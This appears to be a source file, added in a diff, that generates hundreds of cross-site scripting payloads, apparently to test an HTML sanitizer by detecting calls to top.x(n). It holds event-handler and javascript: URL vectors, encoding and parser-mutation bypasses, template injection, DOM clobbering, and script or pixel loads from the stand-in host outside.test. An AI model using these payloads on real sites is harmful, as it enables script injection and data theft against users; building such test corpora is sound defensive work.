@@ -1,0 +1,158 @@
+/** Ways in which texts have become scripts, each calling `x(n)` when it does. */
+
+const events = [
+  "onload",
+  "onerror",
+  "onclick",
+  "onfocus",
+  "onmouseover",
+  "onanimationstart",
+  "ontoggle",
+  "onbegin",
+  "onpageshow",
+  "oncontentvisibilityautostatechange",
+]
+const tags = [
+  "img",
+  "svg",
+  "video",
+  "audio",
+  "body",
+  "iframe",
+  "object",
+  "embed",
+  "input",
+  "details",
+  "marquee",
+  "math",
+  "style",
+  "link",
+  "form",
+  "a",
+  "b",
+  "custom-tag",
+]
+const schemes = [
+  "javascript:CALL",
+  "JaVaScRiPt:CALL",
+  " javascript:CALL",
+  "java\tscript:CALL",
+  "java\nscript:CALL",
+  "&#106;avascript:CALL",
+  "&#x6A&#x61&#x76&#x61script:CALL",
+  "javascript&colon;CALL",
+  "\u0001javascript:CALL",
+  "data:text/html,<script>CALL</script>",
+  "data:text/html;base64,PHNjcmlwdD50b3AueCgwKTwvc2NyaXB0Pg==",
+  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
+  "vbscript:CALL",
+  "feed:javascript:CALL",
+  "view-source:javascript:CALL",
+  "blob:javascript:CALL",
+]
+const carriers = [
+  (url: string) => `<a href="${url}">look</a>`,
+  (url: string) => `<a href='${url}' target=_top>look</a>`,
+  (url: string) => `<img src="${url}">`,
+  (url: string) => `<iframe src="${url}"></iframe>`,
+  (url: string) => `<object data="${url}"></object>`,
+  (url: string) => `<embed src="${url}">`,
+  (url: string) => `<form action="${url}"><button>go</button></form>`,
+  (url: string) => `<button formaction="${url}">go</button>`,
+  (url: string) => `<meta http-equiv="refresh" content="0;url=${url}">`,
+  (url: string) => `<svg><a xlink:href="${url}"><text y=20>look</text></a></svg>`,
+  (url: string) => `<svg><use href="${url}"/></svg>`,
+  (url: string) => `<math href="${url}">look</math>`,
+  (url: string) => `<base href="${url}">`,
+  (url: string) => `<link rel=stylesheet href="${url}">`,
+  (url: string) => `<video poster="${url}"></video>`,
+  (url: string) => `<div style="background:url(${url})">look</div>`,
+]
+
+/** Parsers that disagree: what is text to one is markup to the next. */
+const mutations = [
+  "<script>CALL</script>",
+  "<SCRIPT SRC=//outside.test/x.js></SCRIPT>",
+  "<scr<script>ipt>CALL</scr</script>ipt>",
+  "<script\u2028>CALL</script>",
+  "<svg><script>CALL</script></svg>",
+  "<svg><script href=//outside.test/x.js />",
+  "<svg><style><img src=x onerror=CALL></style></svg>",
+  '<svg></p><style><a id="</style><img src=x onerror=CALL>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CALL&gt;">',
+  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
+  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
+  '<textarea><img title="</textarea><img src=x onerror=CALL>"></textarea>',
+  '<title><img title="</title><img src=x onerror=CALL>">',
+  '<xmp><img title="</xmp><img src=x onerror=CALL>"></xmp>',
+  '<noembed><img title="</noembed><img src=x onerror=CALL>"></noembed>',
+  '<iframe srcdoc="&lt;script&gt;parent.CALL&lt;/script&gt;"></iframe>',
+  "<template><img src=x onerror=CALL></template>",
+  "<select><template><img src=x onerror=CALL></template></select>",
+  "<!--><img src=x onerror=CALL>-->",
+  '<!--<img src="--><img src=x onerror=CALL>">',
+  "<![CDATA[><img src=x onerror=CALL>]]>",
+  '<?xml-stylesheet href="javascript:CALL"?>',
+  '<img src="x" `onerror=CALL>',
+  "<img/src=x/onerror=CALL>",
+  "<img src=x onerror\n=\nCALL>",
+  "<img src=x onerror=&#x74;op.CALL>",
+  "<img src=x:x onerror=\u00a0CALL>",
+  '<a href="https://ok.test"onmouseover=CALL>look</a>',
+  '"><img src=x onerror=CALL>',
+  "'-CALL-'",
+  "</title><script>CALL</script>",
+  "</textarea><script>CALL</script>",
+  "</script><script>CALL</script>",
+  "{{constructor.constructor('CALL')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the tricks
+  "${CALL}",
+  "&lt;img src=x onerror=CALL&gt;",
+  "&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;",
+  "%3Cscript%3ECALL%3C/script%3E",
+  "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
+  "+ADw-script+AD4-CALL+ADw-/script+AD4-",
+  '<div style="animation-name:x" onanimationstart=CALL>look</div><style>@keyframes x{}</style>',
+  "<style>@import '//outside.test/x.css';</style>",
+  "<style>*{background:url(//outside.test/x)}</style>",
+  '<div style="width:expression(CALL)">look</div>',
+  '<div style="behavior:url(//outside.test/x.htc)">look</div>',
+  '<img src="//outside.test/pixel.gif">',
+  '<img srcset="//outside.test/a.gif 1x, //outside.test/b.gif 2x">',
+  '<picture><source srcset="//outside.test/c.gif"><img></picture>',
+  '<video src="//outside.test/v" autoplay></video>',
+  '<input type=image src="//outside.test/i">',
+  '<link rel=prefetch href="//outside.test/p"><link rel=dns-prefetch href="//outside.test">',
+  '<object classid="clsid:1"><param name=movie value="//outside.test/x.swf"></object>',
+  '<a ping="//outside.test/ping" href="#">look</a>',
+  '<body background="//outside.test/b">',
+  '<table background="//outside.test/t"><tr><td>look</td></tr></table>',
+  '<x id="document"></x><form name="body"><input name="innerHTML"></form>',
+  '<a id=x name=x href="javascript:CALL">look</a>',
+  '<p is="script">CALL</p>',
+  "<slot onslotchange=CALL><p>look</p></slot>",
+]
+
+const wrappers = [
+  (inner: string) => inner,
+  (inner: string) => `<p>Hello</p>${inner}`,
+  (inner: string) => `<table><tr><td>${inner}`,
+  (inner: string) => `<blockquote><ul><li>${inner}</li></ul>`,
+  (inner: string) => `<div dir="rtl" title="a>b">${inner}`,
+]
+
+/** At least `count` of them, in an order that mixes the kinds; the n-th calls `top.x(n)`. */
+export function payloads(count: number): string[] {
+  const kinds = [
+    mutations,
+    ...tags.map((tag) =>
+      events.map((event) => `<${tag} src=x href=x ${event}=CALL autofocus tabindex=0 open>look</${tag}>`),
+    ),
+    ...carriers.map((carry) => schemes.map(carry)),
+  ]
+  const mixed: string[] = []
+  for (let round = 0; round < Math.max(...kinds.map(({ length }) => length)); round++)
+    for (const kind of kinds) if (kind[round] !== undefined) mixed.push(kind[round] as string)
+  const made = wrappers.flatMap((wrap) => mixed.map(wrap))
+  return made.slice(0, count).map((payload, n) => payload.replaceAll("CALL", `top.x(${n})`))
+}
